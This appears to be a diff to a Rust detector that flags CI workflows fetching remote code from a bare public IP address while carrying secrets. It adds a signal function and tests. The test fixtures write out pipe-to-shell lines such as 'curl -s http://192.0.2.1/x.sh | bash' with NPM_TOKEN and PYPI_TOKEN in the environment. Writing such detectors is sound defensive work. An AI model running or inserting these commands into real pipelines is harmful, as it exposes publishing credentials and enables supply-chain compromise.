@@ -13,7 +13,9 @@ use crate::flow::command::REMOTE_CODE;
 use crate::flow::trace::{Observation, ObservationKind};
 use crate::report::Class;
 use crate::signal::Signal;
-use crate::technique::{Evidence, Sighting, Technique, named_secrets, unrelated_to_each_other};
+use crate::technique::{
+    Evidence, Sighting, Technique, named_secrets, several_purposes, unrelated_to_each_other,
+};
 
 /// See the module's documentation.
 pub(super) struct RemoteCode;
@@ -37,6 +39,7 @@ impl Technique for RemoteCode {
         let sighting = |group: Vec<usize>| {
             let mut signals = std::collections::BTreeSet::from([Signal::RemoteCode]);
             signals.extend(beside_nothing_else(evidence, &group));
+            signals.extend(from_no_name(evidence, &group));
             Sighting { deliveries: group, signals, ..Sighting::default() }
         };
         let mut found: Vec<Sighting> = groups.into_iter().map(sighting).collect();
@@ -78,6 +81,23 @@ fn beside_nothing_else(evidence: &Evidence<'_>, group: &[usize]) -> Vec<Signal> 
         return Vec::new();
     }
     vec![Signal::ForeignDestination, Signal::UnrelatedSecrets, Signal::SinglePurpose]
+}
+
+/// What speaks against code that comes from an address without a name, outside of any network of the owner's: nobody publishes
+/// a tool there. Beside secrets that have nothing to do with each other it is there for them.
+fn from_no_name(evidence: &Evidence<'_>, group: &[usize]) -> Vec<Signal> {
+    let mut places = group.iter().filter_map(|at| evidence.delivery(*at)).map(|(_, place)| place);
+    let nameless =
+        places.all(|place| place.class == Class::RawAddress && !place.local && !place.is_private());
+    if !nameless || evidence.workflow.is_action {
+        return Vec::new();
+    }
+    let names = named_secrets(&evidence.carried(group));
+    let mut signals = vec![Signal::ForeignDestination, Signal::RawAddress];
+    if unrelated_to_each_other(&names) || several_purposes(&names) {
+        signals.push(Signal::UnrelatedSecrets);
+    }
+    signals
 }
 
 /// Words of addresses and steps that install something.
@@ -248,6 +268,30 @@ mod tests {
     fn an_installer_without_secrets() {
         silent(
             "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSf https://install.example/get.sh | bash\n",
+        );
+    }
+
+    #[test]
+    fn an_address_without_a_name() {
+        let job = |address: &str, secrets: &[&str]| {
+            let env: Vec<String> =
+                secrets.iter().map(|name| format!("{name}: '${{{{ secrets.{name} }}}}'")).collect();
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: curl -s http://{address}/x.sh | bash\n        env: {{{}}}\n",
+                env.join(", ")
+            )
+        };
+        let (one, two) = (&["NPM_TOKEN"], &["NPM_TOKEN", "PYPI_TOKEN"]);
+        check("remote-code", &job("192.0.2.1", two), Verdict::Malicious, two, &["192.0.2.1"]);
+        check("remote-code", &job("192.0.2.1", one), Verdict::Suspicious, one, &["192.0.2.1"]);
+        // Near miss: a machine in a network of the owner's, and a host with a name.
+        check("remote-code", &job("10.0.0.7", two), Verdict::Exposed, two, &["10.0.0.7"]);
+        check(
+            "remote-code",
+            &job("get.widgets.example", two),
+            Verdict::Exposed,
+            two,
+            &["get.widgets.example"],
         );
     }
 }
